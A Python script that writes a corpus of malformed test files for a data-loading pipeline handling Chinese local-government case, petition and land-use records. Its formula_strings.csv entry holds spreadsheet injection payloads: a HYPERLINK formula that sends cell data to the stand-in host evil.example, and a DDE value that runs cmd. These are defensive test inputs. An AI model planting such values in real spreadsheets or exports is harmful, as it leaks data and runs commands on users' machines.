"""Write the bad-input corpus beside this script (small files; run it again to recreate them).

    .venv/bin/python tests/bad_input/make_corpus.py

Each file is malformed in one way; tests/test_etl_bad_input.py says, per file, which mapping
reads it and what must happen: one clear LandDeskError sentence naming the file with the store
unchanged, or exactly the good records loaded and the bad ones in etl_rejects with their reason.
The 50 MB single-field CSV is not here: the test writes it into a temporary folder.
"""
from __future__ import annotations

import gzip
import random
from pathlib import Path

HERE = Path(__file__).resolve().parent
CASES_HEADER = "办件编号,事项名称,受理时间,办结时间,办理状态,渠道,乡镇,跑动次数,评价"
GOOD_CASES = ["G01,不动产登记,2024-03-01 09:00,2024-03-02 10:00,办结,窗口,青山镇,1,5",
              "G02,不动产登记,2024-03-04 09:00,,在办,网上,青山镇,0,"]
PETITIONS_HEADER = "信访编号,登记日期,来信来访方式,问题类别,所属乡镇,诉求摘要"
LAND_HEADER = "行政区代码,行政区名称,年度,地类编码,面积（公顷）"
GOOD_LAND = ["331199001,城关镇,2023,01,1234.5", "331199001,城关镇,2023,03,2200"]


def cases(*bad: str) -> str:
    return "\n".join([CASES_HEADER, *GOOD_CASES, *bad]) + "\n"


def xes(traces: str) -> str:
    return ('<?xml version="1.0" encoding="UTF-8"?>\n<log xes.version="1.0" xmlns="http://www.xes-standard.org/">\n'
            + traces + "</log>\n")


def trace(case: str, *events: tuple[str, str]) -> str:
    body = "".join(f'  <event><string key="concept:name" value="{s}"/>'
                   f'<date key="time:timestamp" value="{t}"/></event>\n' for s, t in events)
    return f'<trace><string key="concept:name" value="{case}"/>\n{body}</trace>\n'


def write(name: str, data: str | bytes, encoding: str = "utf-8") -> None:
    (HERE / name).write_bytes(data if isinstance(data, bytes) else data.encode(encoding))


def main() -> None:
    rnd = random.Random(20240305)
    petitions_gb = "\n".join([PETITIONS_HEADER, "X1,2024-03-01,来访,征地补偿,青山镇,要求补偿"]) + "\n"
    write("wrong_encoding.csv", petitions_gb, "gb18030")                      # read with encoding: utf-8
    write("latin1.csv", ("id,name\n1,Ren\xe9e \xff\n").encode("latin-1"))      # neither UTF-8 nor GB18030
    write("bom_gb18030_mix.csv", b"\xef\xbb\xbf" + petitions_gb.encode("gb18030"))
    write("binary_garbage.csv", bytes(rnd.randrange(256) for _ in range(2048)) + b"\x00" * 16)
    write("pdf_named.csv", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\n")
    write("empty.csv", b"")
    write("blank_lines.csv", "\n\n \n\n")
    write("header_only.csv", CASES_HEADER + "\n")
    write("missing_column.csv", "办件编号,事项名称,受理时间\nG01,不动产登记,2024-03-01\n")
    write("duplicate_header.csv", "办件编号,受理时间,受理时间\nG01,2024-03-01,2024-03-02\n")
    write("ragged_row.csv", cases("G03,不动产登记,2024-03-05,,在办,窗口,青山镇,0,,extra,fields"))
    write("unclosed_quote.csv", cases('G03,"不动产登记,2024-03-05,,在办,窗口,青山镇,0,'))
    write("html_error_page.csv", "<!DOCTYPE html><html><head><title>502 Bad Gateway</title></head>\n<body>502</body></html>\n")
    write("unknown_code.csv", cases("B01,不动产登记,2024-03-05,,在办,传真,青山镇,0,"))
    write("future_date.csv", cases("B01,不动产登记,2099-01-01 09:00,,在办,窗口,青山镇,0,"))
    write("before_1949.csv", cases("B01,不动产登记,1948-12-31,,在办,窗口,青山镇,0,"))
    write("not_a_date.csv", cases("B01,不动产登记,三月五日上午,,在办,窗口,青山镇,0,"))
    write("closed_before_received.csv", cases("B01,不动产登记,2024-03-05,2024-03-01,办结,窗口,青山镇,0,5"))
    write("bad_number.csv", cases("B01,不动产登记,2024-03-05,,在办,窗口,青山镇,两次,"))
    write("rating_out_of_range.csv", cases("B01,不动产登记,2024-03-05,2024-03-06,办结,窗口,青山镇,0,7"))
    write("missing_required_value.csv", cases("B01,不动产登记,,,在办,窗口,青山镇,0,"))
    write("duplicate_keys.csv", cases("G01,不动产登记,2024-03-09 09:00,,在办,窗口,青山镇,0,"))
    write("all_bad.csv", "\n".join([CASES_HEADER] + [f"B{i:02d},登记,not-a-date,,在办,窗口,青山镇,0," for i in range(10)]) + "\n")
    write("formula_strings.csv", "\n".join([
        PETITIONS_HEADER,
        'F1,2024-03-01,来访,"=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")",青山镇,"=1+2"',
        "F2,2024-03-02,网上,+cmd|' /C calc'!A0,青山镇,@SUM(1+1)*cmd",
        "F3,2024-03-03,来信,-2+3,青山镇,正常诉求"]) + "\n")
    write("negative_area.csv", "\n".join([LAND_HEADER, *GOOD_LAND, "331199001,城关镇,2023,04,-5"]) + "\n")
    write("unknown_land_code.csv", "\n".join([LAND_HEADER, *GOOD_LAND, "331199001,城关镇,2023,99,10"]) + "\n")
    write("year_out_of_range.csv", "\n".join([LAND_HEADER, *GOOD_LAND, "331199001,城关镇,1900,01,10"]) + "\n")
    write("not_xes.xml", '<?xml version="1.0"?>\n<rss version="2.0"><channel><title>新闻</title></channel></rss>\n')
    write("malformed.xes", xes(trace("C1", ("受理", "2024-03-04T09:00:00+08:00")))[:-20])
    write("no_traces.xes", xes(""))
    good = trace("C1", ("受理", "2024-03-04T09:00:00+08:00"), ("办结", "2024-03-05T09:00:00+08:00"))
    (HERE / "truncated.xes.gz").write_bytes(gzip.compress(xes(good * 40).encode(), mtime=0)[:300])
    (HERE / "truncated.csv.gz").write_bytes(gzip.compress(cases().encode() * 20, mtime=0)[:120])
    write("events_unknown_cases.xes", xes(good + trace("C9", ("受理", "2024-03-04T09:00:00+08:00"))))
    write("events_missing_timestamp.xes", xes(
        '<trace><string key="concept:name" value="C1"/><event><string key="concept:name" value="受理"/></event>'
        '<event><string key="concept:name" value="办结"/></event></trace>\n'))
    _xlsx()


def _xlsx() -> None:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = "地类面积"
    ws.append(["青山县土地利用现状统计表"])
    ws.merge_cells("A1:E1")
    ws.append(["行政区", None, "年度", "地类", "面积（公顷）"])      # 行政区 is merged over two columns
    ws.merge_cells("A2:B2")
    ws.append(["代码", "名称", None, "地类编码", None])
    ws.merge_cells("C2:C3")
    ws.merge_cells("E2:E3")
    ws.append(["331199001", "城关镇", 2023, "01", 1234.5])
    ws.append(["331199002", "石桥镇", 2023, "01", 987.25])
    ws.append(["331199003", "云溪镇", 2023, "03", 2200])
    wb.save(HERE / "merged_header.xlsx")
    wb = Workbook()
    wb.active.title = "Sheet1"
    wb.active.append(["行政区代码", "行政区名称", "年度", "地类编码", "面积（公顷）"])
    wb.save(HERE / "one_sheet.xlsx")
    (HERE / "xlsx_named.csv").write_bytes((HERE / "one_sheet.xlsx").read_bytes())
    write("csv_named.xlsx", "\n".join([LAND_HEADER, *GOOD_LAND]) + "\n")


if __name__ == "__main__":
    main()
